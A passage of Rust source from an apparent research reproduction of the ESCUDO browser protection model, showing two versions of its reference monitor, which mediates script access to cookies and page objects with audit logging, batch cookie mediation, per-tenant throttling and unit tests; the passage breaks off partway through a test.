//! let page = browser.navigate("http://blog.example/").unwrap();
//!
//! // The ring-3 comment script was denied when it tried to write the ring-1 post.
//! assert!(browser.page(page).script_outcomes[0].was_denied());
//! let doc = &browser.page(page).document;
//! let post = doc.get_element_by_id("post").unwrap();
//! assert_eq!(doc.text_content(post), "Original post");
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod browser;
pub mod context;
pub mod erm;
pub mod error;
pub mod host;
pub mod loader;
pub mod page;
pub mod render;
pub mod snapshot;

pub use browser::{Browser, PageId, DEFAULT_SUBRESOURCE_WORKERS};
pub use context::SecurityContextTable;
pub use erm::Erm;
pub use error::BrowserError;
pub use escudo_core::PolicyMode;
pub use loader::{LoadOptions, PageLoader};
pub use page::{Page, PageLoadStats, ScriptOutcome, SubresourceOutcome};
pub use render::{LayoutBox, RenderStats, Renderer};
pub use snapshot::{
    ControlPlaneSnapshot, ErmCounters, FabricCounters, HealthVerdict, TenantSnapshot,
};
