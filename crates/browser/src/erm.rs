//! The ESCUDO Reference Monitor (ERM).
//!
//! The prototype's ERM "enforces access-decisions based on the security contexts" and
//! "is spread over several places because the places to embed the checks is specific
//! to the object type". In this reproduction every enforcement point funnels into
//! [`Erm::check`], which applies [`escudo_core::decide`] and records an audit trail —
//! so experiments can show not just *that* an attack was stopped but *which rule*
//! stopped it.

use escudo_core::policy::AuditRecord;
use escudo_core::{decide, Decision, ObjectContext, Operation, PolicyMode, PrincipalContext};

/// The reference monitor: policy mode, decision procedure, audit log and counters.
#[derive(Debug, Clone)]
pub struct Erm {
    mode: PolicyMode,
    audit: Vec<AuditRecord>,
    checks: u64,
    denials: u64,
    /// When `false`, the audit log is not retained (used by the performance benchmarks
    /// so bookkeeping measures only what the enforcement itself costs).
    record_audit: bool,
}

impl Erm {
    /// Creates a reference monitor enforcing the given policy mode.
    #[must_use]
    pub fn new(mode: PolicyMode) -> Self {
        Erm {
            mode,
            audit: Vec::new(),
            checks: 0,
            denials: 0,
            record_audit: true,
        }
    }

    /// Disables audit-record retention (counters are still kept).
    #[must_use]
    pub fn without_audit(mut self) -> Self {
        self.record_audit = false;
        self
    }

    /// The policy mode in force.
    #[must_use]
    pub fn mode(&self) -> PolicyMode {
        self.mode
    }

    /// Mediates one access. Returns the decision and records it.
    pub fn check(
        &mut self,
        principal: &PrincipalContext,
        object: &ObjectContext,
        operation: Operation,
    ) -> Decision {
        let decision = decide(self.mode, principal, object, operation);
        self.checks += 1;
        if decision.is_denied() {
            self.denials += 1;
        }
        if self.record_audit {
            self.audit.push(AuditRecord {
                principal: principal.clone(),
                object: object.clone(),
                operation,
                mode: self.mode,
                decision: decision.clone(),
            });
        }
        decision
    }

    /// Convenience: mediate and convert a denial into an `Err(String)` describing the
    /// violated rule (used by the script host, where a denial becomes an exception).
    pub fn require(
        &mut self,
        principal: &PrincipalContext,
        object: &ObjectContext,
        operation: Operation,
    ) -> Result<(), String> {
        match self.check(principal, object, operation) {
            Decision::Allow => Ok(()),
            Decision::Deny(reason) => Err(format!(
                "{operation} on {label} denied ({reason})",
                label = if object.label.is_empty() {
                    object.kind.to_string()
                } else {
                    object.label.clone()
                }
            )),
        }
    }

    /// Number of checks performed so far.
    #[must_use]
    pub fn checks(&self) -> u64 {
        self.checks
    }

    /// Number of denials so far.
    #[must_use]
    pub fn denials(&self) -> u64 {
        self.denials
    }

    /// The audit log (empty when audit retention is disabled).
    #[must_use]
    pub fn audit(&self) -> &[AuditRecord] {
        &self.audit
    }

    /// Drains the audit log, returning the records accumulated so far.
    pub fn take_audit(&mut self) -> Vec<AuditRecord> {
        std::mem::take(&mut self.audit)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use escudo_core::context::{ObjectKind, PrincipalKind};
    use escudo_core::{Acl, Origin, Ring};

    fn site() -> Origin {
        Origin::new("http", "forum.example", 80)
    }

    fn script(ring: u16) -> PrincipalContext {
        PrincipalContext::new(PrincipalKind::Script, site(), Ring::new(ring))
    }

    fn cookie() -> ObjectContext {
        ObjectContext::new(ObjectKind::Cookie, site(), Ring::new(1))
            .with_acl(Acl::uniform(Ring::new(1)))
            .with_label("cookie sid")
    }

    #[test]
    fn checks_and_denials_are_counted_and_audited() {
        let mut erm = Erm::new(PolicyMode::Escudo);
        assert!(erm.check(&script(1), &cookie(), Operation::Read).is_allowed());
        assert!(erm.check(&script(3), &cookie(), Operation::Read).is_denied());
        assert_eq!(erm.checks(), 2);
        assert_eq!(erm.denials(), 1);
        assert_eq!(erm.audit().len(), 2);
        assert!(erm.audit()[1].decision.is_denied());
        let drained = erm.take_audit();
        assert_eq!(drained.len(), 2);
        assert!(erm.audit().is_empty());
    }

    #[test]
    fn require_names_the_object_and_rule() {
        let mut erm = Erm::new(PolicyMode::Escudo);
        let err = erm
            .require(&script(3), &cookie(), Operation::Use)
            .unwrap_err();
        assert!(err.contains("cookie sid"), "got: {err}");
        assert!(err.contains("ring rule"), "got: {err}");
        assert!(erm.require(&script(0), &cookie(), Operation::Use).is_ok());
    }

    #[test]
    fn sop_mode_only_applies_the_origin_rule() {
        let mut erm = Erm::new(PolicyMode::SameOriginOnly);
        assert!(erm.check(&script(9), &cookie(), Operation::Write).is_allowed());
        let foreign = PrincipalContext::new(
            PrincipalKind::Script,
            Origin::new("http", "evil.example", 80),
            Ring::new(0),
        );
        assert!(erm.check(&foreign, &cookie(), Operation::Read).is_denied());
        assert_eq!(erm.mode(), PolicyMode::SameOriginOnly);
    }

    #[test]
    fn audit_can_be_disabled_for_benchmarks() {
        let mut erm = Erm::new(PolicyMode::Escudo).without_audit();
        erm.check(&script(3), &cookie(), Operation::Read);
        assert_eq!(erm.checks(), 1);
        assert_eq!(erm.denials(), 1);
        assert!(erm.audit().is_empty());
    }
}
