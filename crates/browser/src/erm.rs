//! The ESCUDO Reference Monitor (ERM) — a thin enforcement facade.
//!
//! The prototype's ERM "enforces access-decisions based on the security contexts" and
//! "is spread over several places because the places to embed the checks is specific
//! to the object type". In this reproduction every enforcement point funnels into
//! [`Erm::check`], but the *decision* itself is made by a shared
//! [`PolicyEngine`](escudo_core::PolicyEngine) — the ERM only enforces, audits and
//! counts. One engine (with its context-interning table and decision cache) can back
//! every page of a session, so hot paths hit warm caches instead of recomputing the
//! origin/ring/ACL rules.
//!
//! The audit log is a **bounded ring buffer**: long-running workloads keep the most
//! recent [`Erm::audit_capacity`] records and count what was dropped, so memory no
//! longer grows without limit.
//!
//! In the multi-tenant control plane the monitor binds to a [`Tenant`] instead of a
//! fixed engine ([`Erm::with_tenant`]): every mediation entry point revalidates the
//! tenant's generation-swapped [`EngineHandle`](escudo_core::EngineHandle) **once**,
//! so a hot policy reload lands between mediation plans, never inside one — and the
//! tenant's token-bucket [`AdmissionControl`](escudo_core::AdmissionControl) is
//! enforced here, covering browser- and script-initiated paths alike. A throttled
//! check is denied fail-closed with [`DenyReason::Throttled`].

use std::collections::VecDeque;
use std::sync::Arc;

use escudo_core::policy::AuditRecord;
use escudo_core::tenant::{AdmissionStats, EngineReader, Tenant};
use escudo_core::{
    engine_for_mode, Decision, DenyReason, EngineStats, ObjectContext, Operation, Origin,
    PolicyEngine, PolicyMode, PrincipalContext,
};
use escudo_net::{SharedCookieJar, Url};

/// A cookie candidate for batch mediation: `(name, value, origin)`.
pub type CookieCandidate = (String, String, Origin);

/// Default bound on retained audit records.
pub const DEFAULT_AUDIT_CAPACITY: usize = 4096;

/// What the monitor decides through: a fixed engine, or a tenant whose
/// generation-swapped handle is revalidated at each mediation entry point.
#[derive(Debug, Clone)]
enum EngineBinding {
    /// One engine for the monitor's lifetime (the library deployment).
    Static(Arc<dyn PolicyEngine>),
    /// A control-plane tenant: engine reads go through a generation-checked
    /// reader, admission goes through the tenant's token bucket.
    Tenant {
        tenant: Arc<Tenant>,
        reader: EngineReader,
    },
}

/// The reference monitor: a facade over a shared [`PolicyEngine`] plus a bounded
/// audit ring buffer and plain counters.
#[derive(Debug, Clone)]
pub struct Erm {
    binding: EngineBinding,
    audit: VecDeque<AuditRecord>,
    audit_capacity: usize,
    audit_dropped: u64,
    checks: u64,
    denials: u64,
    /// When `false`, the audit log is not retained (used by the performance benchmarks
    /// so bookkeeping measures only what the enforcement itself costs).
    record_audit: bool,
}

impl Erm {
    /// Creates a reference monitor enforcing the given policy mode with a fresh engine
    /// ([`EscudoEngine`](escudo_core::EscudoEngine) for [`PolicyMode::Escudo`], the
    /// [`SameOriginEngine`](escudo_core::SameOriginEngine) baseline otherwise).
    #[must_use]
    pub fn new(mode: PolicyMode) -> Self {
        Erm::with_engine(engine_for_mode(mode))
    }

    /// Creates a reference monitor enforcing through an existing (possibly shared)
    /// engine — this is how several pages, sessions or tenants share one decision
    /// cache.
    #[must_use]
    pub fn with_engine(engine: Arc<dyn PolicyEngine>) -> Self {
        Erm::with_binding(EngineBinding::Static(engine))
    }

    /// Creates a reference monitor bound to a control-plane tenant: decisions go
    /// through the tenant's generation-swapped engine handle (revalidated once per
    /// mediation plan, so a hot reload is never observed mid-plan), and every plan
    /// first passes the tenant's admission bucket.
    #[must_use]
    pub fn with_tenant(tenant: Arc<Tenant>) -> Self {
        let reader = EngineReader::new(tenant.handle().clone());
        Erm::with_binding(EngineBinding::Tenant { tenant, reader })
    }

    fn with_binding(binding: EngineBinding) -> Self {
        Erm {
            binding,
            audit: VecDeque::new(),
            audit_capacity: DEFAULT_AUDIT_CAPACITY,
            audit_dropped: 0,
            checks: 0,
            denials: 0,
            record_audit: true,
        }
    }

    /// Disables audit-record retention (counters are still kept).
    #[must_use]
    pub fn without_audit(mut self) -> Self {
        self.record_audit = false;
        self
    }

    /// Bounds the audit ring buffer to `capacity` records (builder style). The oldest
    /// records are dropped first; [`Erm::audit_dropped`] counts them. A capacity of 0
    /// retains nothing (like [`Erm::without_audit`], but still counts drops).
    #[must_use]
    pub fn with_audit_capacity(mut self, capacity: usize) -> Self {
        self.audit_capacity = capacity;
        while self.audit.len() > capacity {
            self.audit.pop_front();
            self.audit_dropped += 1;
        }
        self
    }

    /// The policy mode in force. For a tenant binding this is the mode of the
    /// generation pinned by the last mediation (a hot reload shows up here once
    /// the next plan revalidates the handle).
    #[must_use]
    pub fn mode(&self) -> PolicyMode {
        self.engine().mode()
    }

    /// The decision engine: the static engine, or the tenant engine generation
    /// pinned by the last mediation.
    #[must_use]
    pub fn engine(&self) -> &Arc<dyn PolicyEngine> {
        match &self.binding {
            EngineBinding::Static(engine) => engine,
            EngineBinding::Tenant { reader, .. } => reader.pinned().engine(),
        }
    }

    /// The bound tenant, when this monitor enforces for one.
    #[must_use]
    pub fn tenant(&self) -> Option<&Arc<Tenant>> {
        match &self.binding {
            EngineBinding::Static(_) => None,
            EngineBinding::Tenant { tenant, .. } => Some(tenant),
        }
    }

    /// The engine generation the last mediation plan was pinned to (`None` for a
    /// static binding).
    #[must_use]
    pub fn generation(&self) -> Option<u64> {
        match &self.binding {
            EngineBinding::Static(_) => None,
            EngineBinding::Tenant { reader, .. } => Some(reader.pinned().generation()),
        }
    }

    /// The bound tenant's admission-bucket counters (`None` for a static binding).
    #[must_use]
    pub fn admission_stats(&self) -> Option<AdmissionStats> {
        self.tenant().map(|tenant| tenant.admission().stats())
    }

    /// Interning/cache statistics of the underlying engine.
    #[must_use]
    pub fn engine_stats(&self) -> EngineStats {
        self.engine().stats()
    }

    /// Revalidates a tenant binding against the handle's published generation.
    /// Called exactly once at each public mediation entry point: everything a
    /// single plan decides afterwards reads the pinned generation, so the plan
    /// is generation-consistent even while a hot reload lands concurrently.
    fn sync_generation(&mut self) {
        if let EngineBinding::Tenant { reader, .. } = &mut self.binding {
            reader.refresh();
        }
    }

    /// Requests admission for `n` checks from the bound tenant's token bucket.
    /// Static bindings admit everything.
    fn admit(&self, n: u64) -> bool {
        match &self.binding {
            EngineBinding::Static(_) => true,
            EngineBinding::Tenant { tenant, .. } => tenant.admission().try_admit(n),
        }
    }

    fn record(&mut self, record: AuditRecord) {
        if self.audit.len() >= self.audit_capacity {
            if self.audit_capacity == 0 {
                self.audit_dropped += 1;
                return;
            }
            self.audit.pop_front();
            self.audit_dropped += 1;
        }
        self.audit.push_back(record);
    }

    /// Mediates one access. Returns the decision and records it. A tenant-bound
    /// monitor revalidates the engine generation first and passes the tenant's
    /// admission bucket; a throttled check is denied with
    /// [`DenyReason::Throttled`].
    pub fn check(
        &mut self,
        principal: &PrincipalContext,
        object: &ObjectContext,
        operation: Operation,
    ) -> Decision {
        self.sync_generation();
        self.decide_batch(&[(principal, object, operation)])
            .pop()
            .expect("one check yields one decision")
    }

    /// Batch mediation: one engine-lock acquisition for the whole slice. Returns the
    /// decisions in order, with counting and auditing identical to repeated
    /// [`Erm::check`] calls. For a tenant binding the whole batch is decided by
    /// **one** engine generation (pinned before the first decision) and admitted
    /// all-or-nothing by the token bucket.
    pub fn check_many(
        &mut self,
        checks: &[(&PrincipalContext, &ObjectContext, Operation)],
    ) -> Vec<Decision> {
        self.sync_generation();
        self.decide_batch(checks)
    }

    /// Decides one already-pinned mediation plan: no generation revalidation
    /// happens here, so every caller that syncs once and then issues one or more
    /// `decide_batch` calls stays on a single generation for the whole plan.
    fn decide_batch(
        &mut self,
        checks: &[(&PrincipalContext, &ObjectContext, Operation)],
    ) -> Vec<Decision> {
        let decisions = if self.admit(checks.len() as u64) {
            self.engine().decide_many(checks)
        } else {
            vec![Decision::Deny(DenyReason::Throttled); checks.len()]
        };
        let mode = self.mode();
        self.checks += checks.len() as u64;
        for ((principal, object, operation), decision) in checks.iter().zip(&decisions) {
            if decision.is_denied() {
                self.denials += 1;
            }
            if self.record_audit {
                self.record(AuditRecord {
                    principal: (*principal).clone(),
                    object: (*object).clone(),
                    operation: *operation,
                    mode,
                    decision: decision.clone(),
                });
            }
        }
        decisions
    }

    /// Batch-mediates `operation` over cookie candidates, returning the `name=value`
    /// pairs the policy admits (in candidate order). `object_for` supplies the
    /// cookie's security context — the page's context table, or the browser-wide
    /// policy store when no page is loaded. Under the same-origin baseline every
    /// in-scope cookie is admitted without consulting the engine: that is exactly
    /// the legacy behaviour CSRF exploits.
    ///
    /// This is the single implementation behind both browser-initiated and
    /// script-initiated requests, so enforcement can never diverge between them.
    pub fn mediate_cookies(
        &mut self,
        candidates: &[CookieCandidate],
        operation: Operation,
        principal: &PrincipalContext,
        object_for: impl Fn(&str, Origin) -> ObjectContext,
    ) -> Vec<String> {
        self.sync_generation();
        if self.mode() == PolicyMode::SameOriginOnly {
            // The baseline consults no engine, but admission still meters the
            // mediation (fail-closed: a throttled plan attaches nothing).
            if !self.admit(candidates.len() as u64) {
                return Vec::new();
            }
            return candidates
                .iter()
                .map(|(name, value, _)| format!("{name}={value}"))
                .collect();
        }
        let objects: Vec<ObjectContext> = candidates
            .iter()
            .map(|(name, _, origin)| object_for(name, origin.clone()))
            .collect();
        let checks: Vec<(&PrincipalContext, &ObjectContext, Operation)> = objects
            .iter()
            .map(|object| (principal, object, operation))
            .collect();
        self.decide_batch(&checks)
            .iter()
            .zip(candidates)
            .filter(|(decision, _)| decision.is_allowed())
            .map(|(_, (name, value, _))| format!("{name}={value}"))
            .collect()
    }

    /// Batch-mediates `operation` over every cookie the shared jar holds in scope for
    /// a request to `url`, in RFC 6265 §5.4 attach order (longest path first, then
    /// earliest creation). One snapshot pass over the jar's shards collects the
    /// candidates, then one [`Erm::mediate_cookies`] batch decides them — the jar's
    /// scope answer and the engine's `use` decision stay cleanly split, and both
    /// browser- and script-initiated requests funnel through this same path.
    pub fn mediate_jar(
        &mut self,
        jar: &SharedCookieJar,
        url: &Url,
        operation: Operation,
        principal: &PrincipalContext,
        object_for: impl Fn(&str, Origin) -> ObjectContext,
    ) -> Vec<String> {
        let candidates: Vec<CookieCandidate> = jar
            .candidates_for(url)
            .into_iter()
            .map(|c| {
                let origin = c.origin();
                (c.name, c.value, origin)
            })
            .collect();
        self.mediate_cookies(&candidates, operation, principal, object_for)
    }

    /// Page-batch jar mediation: decides the cookie attachments of *several*
    /// requests — one per planned subresource — in **one** engine batch, walking
    /// the jar once per distinct URL instead of once per request. Returns the
    /// admitted `name=value` pairs per request, in input order (each request's
    /// pairs in RFC 6265 §5.4 attach order).
    ///
    /// This is phase 1 of the pipelined subresource loader: every decision is
    /// fixed here, deterministically, *before* any fetch is dispatched, so the
    /// mediation outcome cannot depend on transport completion order. Counting
    /// and auditing are identical to issuing one [`Erm::mediate_jar`] call per
    /// request in input order.
    pub fn mediate_jar_many(
        &mut self,
        jar: &SharedCookieJar,
        requests: &[(&Url, &PrincipalContext)],
        operation: Operation,
        object_for: impl Fn(&str, Origin) -> ObjectContext,
    ) -> Vec<Vec<String>> {
        self.sync_generation();
        // One jar walk per distinct URL (a page's subresources typically share a
        // handful of origins, so a linear probe of the seen-list is cheap).
        let mut unique_urls: Vec<&Url> = Vec::new();
        let mut candidate_sets: Vec<Vec<CookieCandidate>> = Vec::new();
        let mut set_index: Vec<usize> = Vec::with_capacity(requests.len());
        for (url, _) in requests {
            let index = match unique_urls.iter().position(|u| *u == *url) {
                Some(index) => index,
                None => {
                    unique_urls.push(url);
                    candidate_sets.push(
                        jar.candidates_for(url)
                            .into_iter()
                            .map(|c| {
                                let origin = c.origin();
                                (c.name, c.value, origin)
                            })
                            .collect(),
                    );
                    candidate_sets.len() - 1
                }
            };
            set_index.push(index);
        }

        // The same-origin baseline attaches every in-scope candidate without
        // consulting the engine — exactly like `mediate_cookies`, including the
        // admission meter (all-or-nothing over the whole plan).
        if self.mode() == PolicyMode::SameOriginOnly {
            let total: usize = set_index.iter().map(|&i| candidate_sets[i].len()).sum();
            if !self.admit(total as u64) {
                return vec![Vec::new(); requests.len()];
            }
            return set_index
                .iter()
                .map(|&index| {
                    candidate_sets[index]
                        .iter()
                        .map(|(name, value, _)| format!("{name}={value}"))
                        .collect()
                })
                .collect();
        }

        // Flatten every (request, candidate) pair into one engine batch.
        let objects: Vec<ObjectContext> = set_index
            .iter()
            .flat_map(|&index| {
                candidate_sets[index]
                    .iter()
                    .map(|(name, _, origin)| object_for(name, origin.clone()))
            })
            .collect();
        let mut checks: Vec<(&PrincipalContext, &ObjectContext, Operation)> =
            Vec::with_capacity(objects.len());
        let mut remaining_objects = objects.as_slice();
        for ((_, principal), &index) in requests.iter().zip(&set_index) {
            let (head, tail) = remaining_objects.split_at(candidate_sets[index].len());
            checks.extend(head.iter().map(|object| (*principal, object, operation)));
            remaining_objects = tail;
        }
        let decisions = self.decide_batch(&checks);

        // Split the flat decision vector back into per-request attachments.
        let mut offset = 0;
        set_index
            .iter()
            .map(|&index| {
                let candidates = &candidate_sets[index];
                let attached = decisions[offset..offset + candidates.len()]
                    .iter()
                    .zip(candidates)
                    .filter(|(decision, _)| decision.is_allowed())
                    .map(|(_, (name, value, _))| format!("{name}={value}"))
                    .collect();
                offset += candidates.len();
                attached
            })
            .collect()
    }

    /// Convenience: mediate and convert a denial into an `Err(String)` describing the
    /// violated rule (used by the script host, where a denial becomes an exception).
    pub fn require(
        &mut self,
        principal: &PrincipalContext,
        object: &ObjectContext,
        operation: Operation,
    ) -> Result<(), String> {
        match self.check(principal, object, operation) {
            Decision::Allow => Ok(()),
            Decision::Deny(reason) => Err(format!(
                "{operation} on {label} denied ({reason})",
                label = if object.label.is_empty() {
                    object.kind.to_string()
                } else {
                    object.label.clone()
                }
            )),
        }
    }

    /// Number of checks performed so far.
    #[must_use]
    pub fn checks(&self) -> u64 {
        self.checks
    }

    /// Number of denials so far.
    #[must_use]
    pub fn denials(&self) -> u64 {
        self.denials
    }

    /// The retained audit records, oldest first (empty when audit retention is
    /// disabled). At most [`Erm::audit_capacity`] records are retained.
    #[must_use]
    pub fn audit(&self) -> &VecDeque<AuditRecord> {
        &self.audit
    }

    /// The bound on retained audit records.
    #[must_use]
    pub fn audit_capacity(&self) -> usize {
        self.audit_capacity
    }

    /// Number of audit records dropped because the ring buffer was full.
    #[must_use]
    pub fn audit_dropped(&self) -> u64 {
        self.audit_dropped
    }

    /// Drains the audit log, returning the records retained so far (oldest first).
    pub fn take_audit(&mut self) -> Vec<AuditRecord> {
        self.audit.drain(..).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use escudo_core::context::{ObjectKind, PrincipalKind};
    use escudo_core::{Acl, EscudoEngine, Origin, Ring};

    fn site() -> Origin {
        Origin::new("http", "forum.example", 80)
    }

    fn script(ring: u16) -> PrincipalContext {
        PrincipalContext::new(PrincipalKind::Script, site(), Ring::new(ring))
    }

    fn cookie() -> ObjectContext {
        ObjectContext::new(ObjectKind::Cookie, site(), Ring::new(1))
            .with_acl(Acl::uniform(Ring::new(1)))
            .with_label("cookie sid")
    }

    #[test]
    fn checks_and_denials_are_counted_and_audited() {
        let mut erm = Erm::new(PolicyMode::Escudo);
        assert!(erm
            .check(&script(1), &cookie(), Operation::Read)
            .is_allowed());
        assert!(erm
            .check(&script(3), &cookie(), Operation::Read)
            .is_denied());
        assert_eq!(erm.checks(), 2);
        assert_eq!(erm.denials(), 1);
        assert_eq!(erm.audit().len(), 2);
        assert!(erm.audit()[1].decision.is_denied());
        let drained = erm.take_audit();
        assert_eq!(drained.len(), 2);
        assert!(erm.audit().is_empty());
    }

    #[test]
    fn require_names_the_object_and_rule() {
        let mut erm = Erm::new(PolicyMode::Escudo);
        let err = erm
            .require(&script(3), &cookie(), Operation::Use)
            .unwrap_err();
        assert!(err.contains("cookie sid"), "got: {err}");
        assert!(err.contains("ring rule"), "got: {err}");
        assert!(erm.require(&script(0), &cookie(), Operation::Use).is_ok());
    }

    #[test]
    fn sop_mode_only_applies_the_origin_rule() {
        let mut erm = Erm::new(PolicyMode::SameOriginOnly);
        assert!(erm
            .check(&script(9), &cookie(), Operation::Write)
            .is_allowed());
        let foreign = PrincipalContext::new(
            PrincipalKind::Script,
            Origin::new("http", "evil.example", 80),
            Ring::new(0),
        );
        assert!(erm.check(&foreign, &cookie(), Operation::Read).is_denied());
        assert_eq!(erm.mode(), PolicyMode::SameOriginOnly);
    }

    #[test]
    fn audit_can_be_disabled_for_benchmarks() {
        let mut erm = Erm::new(PolicyMode::Escudo).without_audit();
        erm.check(&script(3), &cookie(), Operation::Read);
        assert_eq!(erm.checks(), 1);
        assert_eq!(erm.denials(), 1);
        assert!(erm.audit().is_empty());
    }

    #[test]
    fn audit_ring_buffer_is_bounded_and_counts_drops() {
        let mut erm = Erm::new(PolicyMode::Escudo).with_audit_capacity(3);
        for _ in 0..10 {
            erm.check(&script(1), &cookie(), Operation::Read);
        }
        assert_eq!(erm.checks(), 10);
        assert_eq!(erm.audit().len(), 3);
        assert_eq!(erm.audit_dropped(), 7);
        assert_eq!(erm.audit_capacity(), 3);
        // Zero capacity retains nothing but keeps counting.
        let mut none = Erm::new(PolicyMode::Escudo).with_audit_capacity(0);
        none.check(&script(1), &cookie(), Operation::Read);
        assert!(none.audit().is_empty());
        assert_eq!(none.audit_dropped(), 1);
    }

    #[test]
    fn shared_engine_caches_across_monitors() {
        let engine: Arc<dyn PolicyEngine> = Arc::new(EscudoEngine::new());
        let mut a = Erm::with_engine(Arc::clone(&engine));
        let mut b = Erm::with_engine(Arc::clone(&engine));
        a.check(&script(1), &cookie(), Operation::Read);
        // Same decision through a different monitor: served from the shared cache.
        b.check(&script(1), &cookie(), Operation::Read);
        assert_eq!(engine.stats().cache_hits, 1);
        assert_eq!(a.engine_stats().decisions, 2);
    }

    #[test]
    fn mediate_jar_collects_in_attach_order_and_applies_the_policy() {
        use escudo_net::SetCookie;

        let jar = SharedCookieJar::new();
        let setting = Url::parse("http://forum.example/login.php").unwrap();
        jar.store(&setting, &SetCookie::new("sid", "s1"));
        jar.store(
            &setting,
            &SetCookie::new("admin", "a1").with_path("/forum/admin"),
        );
        jar.store(&setting, &SetCookie::new("data", "d1"));

        let mut erm = Erm::new(PolicyMode::Escudo);
        let request = Url::parse("http://forum.example/forum/admin/tool.php").unwrap();
        let ring1 = |_: &str, origin: Origin| {
            ObjectContext::new(ObjectKind::Cookie, origin, Ring::new(1))
                .with_acl(Acl::uniform(Ring::new(1)))
        };

        // §5.4 order: the longest-path cookie first, then creation order.
        let attached = erm.mediate_jar(&jar, &request, Operation::Use, &script(1), ring1);
        assert_eq!(attached, vec!["admin=a1", "sid=s1", "data=d1"]);
        assert_eq!(erm.checks(), 3);

        // A ring-3 principal is denied every ring-1 cookie — same batch path.
        let attached = erm.mediate_jar(&jar, &request, Operation::Use, &script(3), ring1);
        assert!(attached.is_empty());
        assert_eq!(erm.denials(), 3);
    }

    #[test]
    fn mediate_jar_many_matches_per_request_mediation() {
        use escudo_net::SetCookie;

        let jar = SharedCookieJar::new();
        let setting = Url::parse("http://forum.example/login.php").unwrap();
        jar.store(&setting, &SetCookie::new("sid", "s1"));
        jar.store(
            &setting,
            &SetCookie::new("admin", "a1").with_path("/forum/admin"),
        );
        jar.store(
            &Url::parse("http://img.example/a.png").unwrap(),
            &SetCookie::new("imgsid", "i1"),
        );

        let ring1 = |_: &str, origin: Origin| {
            ObjectContext::new(ObjectKind::Cookie, origin, Ring::new(1))
                .with_acl(Acl::uniform(Ring::new(1)))
        };
        let admin_url = Url::parse("http://forum.example/forum/admin/tool.php").unwrap();
        let img_url = Url::parse("http://img.example/b.png").unwrap();
        let p1 = script(1);
        let p3 = script(3);
        let img_principal = PrincipalContext::new(
            PrincipalKind::Script,
            Origin::new("http", "img.example", 80),
            Ring::new(1),
        );
        // Mixed principals, repeated URLs (the repeated URL's jar walk happens once).
        let requests: Vec<(&Url, &PrincipalContext)> = vec![
            (&admin_url, &p1),
            (&img_url, &img_principal),
            (&admin_url, &p3),
            (&admin_url, &p1),
        ];

        let mut batch_erm = Erm::new(PolicyMode::Escudo);
        let batched = batch_erm.mediate_jar_many(&jar, &requests, Operation::Use, ring1);

        let mut oracle_erm = Erm::new(PolicyMode::Escudo);
        let singly: Vec<Vec<String>> = requests
            .iter()
            .map(|(url, principal)| {
                oracle_erm.mediate_jar(&jar, url, Operation::Use, principal, ring1)
            })
            .collect();
        assert_eq!(batched, singly);
        // §5.4 order within a request, denial for the ring-3 principal.
        assert_eq!(batched[0], vec!["admin=a1", "sid=s1"]);
        assert_eq!(batched[1], vec!["imgsid=i1"]);
        assert!(batched[2].is_empty());
        // Counting and auditing identical to the per-request path.
        assert_eq!(batch_erm.checks(), oracle_erm.checks());
        assert_eq!(batch_erm.denials(), oracle_erm.denials());
        assert_eq!(batch_erm.audit().len(), oracle_erm.audit().len());

        // The same-origin baseline attaches every candidate without engine checks.
        let mut sop = Erm::new(PolicyMode::SameOriginOnly);
        let sop_batched = sop.mediate_jar_many(&jar, &requests, Operation::Use, ring1);
        assert_eq!(sop_batched[2], vec!["admin=a1", "sid=s1"]);
        assert_eq!(sop.checks(), 0);
    }

    #[test]
    fn tenant_binding_pins_a_generation_per_plan_and_throttles_fail_closed() {
        use escudo_core::tenant::{Tenant, TenantConfig};
        use escudo_core::DenyReason;

        // --- generation pinning: a reload is observed between plans, not inside.
        let tenant = Arc::new(Tenant::new("acme", TenantConfig::default()));
        let mut erm = Erm::with_tenant(Arc::clone(&tenant));
        assert_eq!(erm.generation(), Some(1));
        assert_eq!(erm.mode(), PolicyMode::Escudo);
        assert!(erm
            .check(&script(3), &cookie(), Operation::Read)
            .is_denied());

        tenant.reload_with(
            TenantConfig::default()
                .with_mode(PolicyMode::SameOriginOnly)
                .build_engine(),
        );
        // Until the next mediation the monitor still reports the pinned epoch.
        assert_eq!(erm.generation(), Some(1));
        // The next plan revalidates: same check, new generation, SOP semantics.
        assert!(erm
            .check(&script(3), &cookie(), Operation::Read)
            .is_allowed());
        assert_eq!(erm.generation(), Some(2));
        assert_eq!(erm.mode(), PolicyMode::SameOriginOnly);
        assert_eq!(erm.tenant().unwrap().id(), "acme");

        // --- admission: burst 3, no refill — the 4th check is shed, denied
        // fail-closed with the distinct Throttled attribution, and audited.
        let throttled = Arc::new(Tenant::new(
            "metered",
            TenantConfig::default().with_admission(3, 0),
        ));
        let mut erm = Erm::with_tenant(Arc::clone(&throttled));
        for _ in 0..3 {
            assert!(erm
                .check(&script(1), &cookie(), Operation::Read)
                .is_allowed());
        }
        let shed = erm.check(&script(1), &cookie(), Operation::Read);
        assert_eq!(shed.deny_reason(), Some(&DenyReason::Throttled));
        assert_eq!(erm.checks(), 4);
        assert_eq!(erm.denials(), 1);
        assert!(erm.audit()[3].decision.is_denied());
        let stats = erm.admission_stats().unwrap();
        assert_eq!((stats.admitted, stats.rejected), (3, 1));

        // Batches are all-or-nothing: an empty bucket rejects the whole plan.
        let p1 = script(1);
        let object = cookie();
        let decisions = erm.check_many(&[(&p1, &object, Operation::Read); 2]);
        assert!(decisions
            .iter()
            .all(|d| d.deny_reason() == Some(&DenyReason::Throttled)));
        assert_eq!(erm.admission_stats().unwrap().rejected, 3);

        // A static binding exposes no tenant surface and never throttles.
        let unbound = Erm::new(PolicyMode::Escudo);
        assert!(unbound.tenant().is_none());
        assert_eq!(unbound.generation(), None);
        assert!(unbound.admission_stats().is_none());
    }

    #[test]
    fn sop_tenant_mediation_is_metered_too() {
        use escudo_core::tenant::{Tenant, TenantConfig};
        use escudo_net::SetCookie;

        let jar = SharedCookieJar::new();
        let url = Url::parse("http://forum.example/index.php").unwrap();
        jar.store(&url, &SetCookie::new("sid", "s1"));
        let tenant = Arc::new(Tenant::new(
            "legacy",
            TenantConfig::default()
                .with_mode(PolicyMode::SameOriginOnly)
                .with_admission(1, 0),
        ));
        let ring1 = |_: &str, origin: Origin| {
            ObjectContext::new(ObjectKind::Cookie, origin, Ring::new(1))
                .with_acl(Acl::uniform(Ring::new(1)))
        };
        let mut erm = Erm::with_tenant(Arc::clone(&tenant));
